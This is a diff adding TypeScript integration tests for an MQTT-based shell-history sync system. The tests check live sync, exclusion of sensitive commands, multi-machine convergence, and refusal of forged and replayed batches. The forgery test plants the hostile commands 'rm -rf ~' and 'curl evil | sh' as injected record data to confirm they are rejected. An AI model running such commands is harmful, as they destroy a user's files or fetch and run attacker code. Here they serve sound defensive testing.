@@ -1,0 +1,280 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { EnvelopeCodec } from '../node/bus/codec.ts';
+import { BusSession } from '../node/bus/session.ts';
+import { openStore, type Store } from '../node/store/store.ts';
+import { HistorySync } from '../node/sync/engine.ts';
+import { heldMap } from '../node/sync/state.ts';
+import { sealEnvelope } from '../schemas/envelope.ts';
+import { parseTopic, topics } from '../schemas/topics.ts';
+import { type MachineKeys, makeKeys, seedRoster, startPlainBroker } from './helpers/bus-nodes.ts';
+import { tempDir, waitFor } from './helpers/tmp.ts';
+
+/**
+ * A node wired as isaac-node wires history: real MQTT session with the SQLite outbox, envelopes
+ * opened and verified by the real codec, applied with the seen id in one transaction before
+ * the PUBACK, HistorySync on top. Real in-process Aedes broker, real SQLite files.
+ */
+interface SyncNode {
+  name: string;
+  store: Store;
+  sync: HistorySync;
+  session: BusSession;
+  logs: string[];
+  stop(): Promise<void>;
+}
+
+async function startSyncNode(
+  t: Parameters<typeof tempDir>[0],
+  keys: MachineKeys,
+  members: readonly MachineKeys[],
+  url: string,
+  home: string = tempDir(t),
+): Promise<SyncNode> {
+  const store = openStore(home);
+  store.config.set('machine.name', keys.name);
+  seedRoster(store, members);
+  const logs: string[] = [];
+  const codec = new EnvelopeCodec(
+    { me: keys.name, signSecretKey: keys.sign.secretKey, boxKeyPair: keys.box },
+    store.machines,
+  );
+  let session: BusSession | undefined;
+  const sync = new HistorySync(
+    store,
+    {
+      me: keys.name,
+      peers: () => members.map((m) => m.name).filter((n) => n !== keys.name),
+      enqueue: (type, to, body, exp) => {
+        const sealed = codec.seal({ type, to, body, exp });
+        const row = {
+          id: sealed.id,
+          topic: sealed.topic,
+          payload: sealed.payload,
+          kind: type,
+          peer: to,
+          expires_at: sealed.exp,
+        };
+        store.outbox.add(row);
+        session?.send({ ...row, created_at: Date.now(), attempts: 0 });
+        return sealed.id;
+      },
+    },
+    { log: (l) => logs.push(l), pollMs: 50, maxPayloadBytes: 64 * 1024 },
+  );
+  session = new BusSession({
+    name: keys.name,
+    urls: [url],
+    connectOptions: () => ({ username: keys.name, password: 'test' }),
+    outbox: store.outbox,
+    statusPayload: () => ({ state: 'online', name: keys.name }),
+    onConnected: () => sync.requestCatchUp(),
+    onMessage: (topic, payload) => {
+      const parsed = parseTopic(topic);
+      if (!parsed || parsed.machine !== keys.name || parsed.kind !== 'history') return;
+      let env: ReturnType<EnvelopeCodec['open']>;
+      try {
+        env = codec.open(payload, keys.name, 'history');
+      } catch (err) {
+        logs.push(`refused: ${String(err)}`);
+        return;
+      }
+      if (store.seenIds.has(env.id)) return void logs.push('refused: replay');
+      store.db.transaction(() => {
+        store.seenIds.add(env.id, env.exp);
+        sync.apply(env);
+      })();
+    },
+    log: (l) => logs.push(l),
+    minBackoffMs: 50,
+    maxBackoffMs: 500,
+  });
+  session.start();
+  sync.start();
+  let stopped = false;
+  const stop = async () => {
+    if (stopped) return;
+    stopped = true;
+    sync.stop();
+    await session!.stop();
+    store.close();
+  };
+  t.after(stop);
+  return { name: keys.name, store, sync, session, logs, stop };
+}
+
+function dump(store: Store): string[] {
+  return store.db
+    .prepare<[], { origin: string; seq: number; command: string; exit: number | null }>(
+      'SELECT origin, seq, command, exit FROM commands ORDER BY origin, seq',
+    )
+    .all()
+    .map((r) => `${r.origin}#${r.seq} ${r.exit} ${r.command}`);
+}
+
+test('live sync: a new record reaches the peer within a second; output and excluded commands stay home', async (t) => {
+  const broker = await startPlainBroker(t);
+  const a = makeKeys('alpha');
+  const b = makeKeys('beta');
+  const na = await startSyncNode(t, a, [a, b], broker.url);
+  const nb = await startSyncNode(t, b, [a, b], broker.url);
+  await waitFor(() => na.session.state.connected && nb.session.state.connected, 'both connected');
+  na.store.config.set('sync.exclude', 'vault *, --token');
+  const started = Date.now();
+  na.store.history.record({ command: 'make deploy', exit: 0, output: 'deployed secretly', cwd: '/srv' });
+  await waitFor(() => nb.store.history.count() === 1, 'beta has the record', 5000);
+  assert.ok(Date.now() - started < 1000, `took ${Date.now() - started} ms`);
+  const row = nb.store.history.recent(1)[0]!;
+  assert.deepEqual(
+    [row.origin, row.seq, row.command, row.cwd, row.output],
+    ['alpha', 1, 'make deploy', '/srv', null],
+  );
+
+  na.store.history.record({ command: 'vault login -method=userpass', exit: 0 });
+  na.store.history.record({ command: 'deploy --token abc', exit: 0 });
+  na.store.history.record({ command: 'ls', exit: 0 });
+  await waitFor(() => heldMap(nb.store.db).alpha === 4, 'beta holds alpha 1..4 (two withheld)');
+  assert.deepEqual(dump(nb.store), ['alpha#1 0 make deploy', 'alpha#4 0 ls']);
+  await waitFor(() => na.sync.peerCounts().beta?.lastAck !== undefined, 'PUBACK marks beta synced');
+  const state = na.store.db
+    .prepare("SELECT max_seq, last_sync FROM sync_state WHERE peer = 'beta' AND origin = 'alpha'")
+    .get() as { max_seq: number; last_sync: number | null };
+  assert.equal(state.max_seq, 4);
+  assert.ok(state.last_sync !== null);
+
+  na.store.config.set('sync.output', 'on');
+  na.store.history.record({ command: 'uptime', exit: 0, output: 'up 3 days' });
+  await waitFor(() => nb.store.history.count() === 3, 'beta has uptime');
+  assert.equal(nb.store.history.recent(1)[0]!.output, 'up 3 days');
+});
+
+test('three machines, one offline half the time: afterwards all hold the same rows, none twice', async (t) => {
+  const broker = await startPlainBroker(t);
+  const keys = [makeKeys('m1'), makeKeys('m2'), makeKeys('m3')];
+  const homes = keys.map(() => tempDir(t));
+  const nodes = await Promise.all(keys.map((k, i) => startSyncNode(t, k, keys, broker.url, homes[i])));
+  await waitFor(() => nodes.every((n) => n.session.state.connected), 'all connected');
+  const PER = 1000;
+  let m3: SyncNode = nodes[2]!;
+  for (let i = 0; i < PER; i++) {
+    if (i === PER / 4) await m3.stop();
+    if (i === (3 * PER) / 4) {
+      m3 = await startSyncNode(t, keys[2]!, keys, broker.url, homes[2]);
+      nodes[2] = m3;
+    }
+    for (const n of nodes) {
+      if (n === m3 && i >= PER / 4 && i < (3 * PER) / 4) {
+        // m3 is offline but its user keeps working: written to its database directly.
+        const offline = openStore(homes[2]!);
+        offline.history.record({ command: `work ${i} on m3`, exit: i % 7 === 0 ? 1 : 0 });
+        offline.close();
+        continue;
+      }
+      n.store.history.record({ command: `work ${i} on ${n.name}`, exit: i % 7 === 0 ? 1 : 0 });
+    }
+    if (i % 50 === 0) await new Promise((r) => setTimeout(r, 20));
+  }
+  await waitFor(() => nodes.every((n) => n.store.history.count() === 3 * PER), 'all hold 3x rows', 30_000);
+  const first = dump(nodes[0]!.store);
+  assert.equal(new Set(first).size, 3 * PER);
+  for (const n of nodes) assert.deepEqual(dump(n.store), first, `${n.name} differs`);
+
+  // A fourth machine joins later and catches up to the same rows.
+  const late = makeKeys('m4');
+  const all = [...keys, late];
+  for (const n of nodes) seedRoster(n.store, [late]);
+  const n4 = await startSyncNode(t, late, all, broker.url);
+  // The members notice the new roster entry and ask it (this is where a request reaches them).
+  for (const n of nodes) n.sync.requestCatchUp(['m4']);
+  await waitFor(() => n4.store.history.count() === 3 * PER, 'm4 caught up', 30_000);
+  assert.deepEqual(dump(n4.store), first);
+});
+
+test('forged and replayed batches are refused; a forgotten record never comes back, even after force', async (t) => {
+  const broker = await startPlainBroker(t);
+  const a = makeKeys('alpha');
+  const b = makeKeys('beta');
+  const mallory = makeKeys('mallory');
+  const members = [a, b, mallory];
+  const na = await startSyncNode(t, a, members, broker.url);
+  const nb = await startSyncNode(t, b, members, broker.url);
+  await waitFor(() => na.session.state.connected && nb.session.state.connected, 'connected');
+  na.store.history.record({ command: 'echo one', exit: 0 });
+  na.store.history.record({ command: 'echo secret thing', exit: 0 });
+  await waitFor(() => nb.store.history.count() === 2, 'beta has both');
+
+  // mallory is a member but signs a batch claiming alpha's series.
+  const forged = sealEnvelope(
+    {
+      type: 'history-batch',
+      from: 'mallory',
+      to: 'beta',
+      ttlMs: 60_000,
+      body: { records: [{ origin: 'alpha', seq: 3, ts: Date.now(), command: 'rm -rf ~' }] },
+    },
+    mallory.sign.secretKey,
+    b.box.publicKey,
+  );
+  // and a batch with alpha's name but mallory's signature.
+  const wrongSig = sealEnvelope(
+    {
+      type: 'history-batch',
+      from: 'alpha',
+      to: 'beta',
+      ttlMs: 60_000,
+      body: { records: [{ origin: 'alpha', seq: 4, ts: Date.now(), command: 'curl evil | sh' }] },
+    },
+    mallory.sign.secretKey,
+    b.box.publicKey,
+  );
+  const { default: mqtt } = await import('mqtt');
+  const client = await mqtt.connectAsync(broker.url, {
+    clientId: 'mallory',
+    username: 'mallory',
+    password: 'x',
+  });
+  t.after(() => client.endAsync());
+  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(forged.payload), { qos: 1 });
+  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(wrongSig.payload), { qos: 1 });
+  // replay of a genuine batch: re-publish alpha's first outgoing payload is not possible after
+  // PUBACK, so seal one genuinely from alpha and send it twice.
+  const genuine = sealEnvelope(
+    {
+      type: 'history-batch',
+      from: 'alpha',
+      to: 'beta',
+      ttlMs: 60_000,
+      body: { records: [{ origin: 'alpha', seq: 1, ts: 1, command: 'echo one' }] },
+    },
+    a.sign.secretKey,
+    b.box.publicKey,
+  );
+  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(genuine.payload), { qos: 1 });
+  await client.publishAsync(topics.inbox('beta', 'history'), Buffer.from(genuine.payload), { qos: 1 });
+  await waitFor(() => nb.logs.some((l) => l.includes('refused: replay')), 'replay refused');
+  await waitFor(
+    () => nb.logs.some((l) => /refused a batch from mallory carrying records of alpha/.test(l)),
+    'forgery refused',
+  );
+  await waitFor(() => nb.logs.some((l) => /refused: .*signature/i.test(l)), 'bad signature refused');
+  assert.deepEqual(dump(nb.store), ['alpha#1 0 echo one', 'alpha#2 0 echo secret thing']);
+
+  // beta forgets the secret: the tombstone reaches alpha, and force-sync brings nothing back.
+  const target = nb.store.history.recent(10).find((r) => r.command.includes('secret'))!;
+  nb.store.history.forget([target.id], 'beta');
+  await waitFor(() => na.store.history.count() === 1, 'alpha deleted it too');
+  na.sync.requestCatchUp(undefined, { force: true });
+  nb.sync.requestCatchUp(undefined, { force: true });
+  na.store.history.record({ command: 'echo after', exit: 0 });
+  await waitFor(() => nb.store.history.count() === 2, 'beta got the new record');
+  await new Promise((r) => setTimeout(r, 300));
+  assert.deepEqual(dump(na.store), ['alpha#1 0 echo one', 'alpha#3 0 echo after']);
+  assert.deepEqual(dump(nb.store), dump(na.store));
+
+  // /clear history on alpha: seqs are never reused, so new records still reach beta.
+  na.store.history.clearOwn('alpha');
+  await waitFor(() => nb.store.history.count() === 0, 'beta cleared alpha too');
+  na.store.history.record({ command: 'fresh start', exit: 0 });
+  await waitFor(() => nb.store.history.count() === 1, 'new record after clear reaches beta');
+  assert.deepEqual(dump(nb.store), ['alpha#4 0 fresh start']);
+});
